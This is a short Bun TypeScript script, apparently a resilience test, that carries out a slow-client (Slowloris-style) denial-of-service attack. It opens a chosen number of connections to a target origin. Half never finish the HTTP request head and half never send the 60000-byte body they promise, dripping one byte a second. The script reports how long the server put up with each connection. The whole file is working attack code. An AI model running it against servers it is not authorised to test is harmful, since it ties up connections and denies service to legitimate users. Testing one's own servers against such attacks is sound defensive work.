export {};

/**
 * Clients that send a byte a second: `bun slow-clients-attack.ts ORIGIN CLIENTS SECONDS`. Prints how long each was
 * borne.
 */

const [target = '', count = '1', seconds = '1'] = process.argv.slice(2);
const { hostname, port } = new URL(target);
const DRIP_MS = 1_000;

const START = 'POST /api/v1/events HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n';
/** Half of them never finish their head, the others not their body. */
const KINDS = { head: START, body: `${START}Content-Length: 60000\r\n\r\n` };

const untilMs = performance.now() + Number(seconds) * 1_000;
const clients = Array.from({ length: Number(count) }, (_, index) => drip(index % 2 === 0 ? 'head' : 'body'));
console.log(JSON.stringify(await Promise.all(clients)));
process.exit(0);

/** @returns the kind, and the milliseconds until the other end closed; null when it never did */
async function drip(kind: keyof typeof KINDS): Promise<[string, number | null]> {
  const startedMs = performance.now();
  let closedMs: number | null = null;
  const socket = await Bun.connect({
    hostname,
    port: Number(port),
    socket: {
      open: (opened) => void opened.write(KINDS[kind]),
      data() {},
      close() {
        closedMs = performance.now() - startedMs;
      },
      error() {
        closedMs ??= performance.now() - startedMs;
      },
    },
  });
  while (closedMs === null && performance.now() < untilMs) {
    await Bun.sleep(DRIP_MS);
    socket.write('x');
  }
  return [kind, closedMs];
}
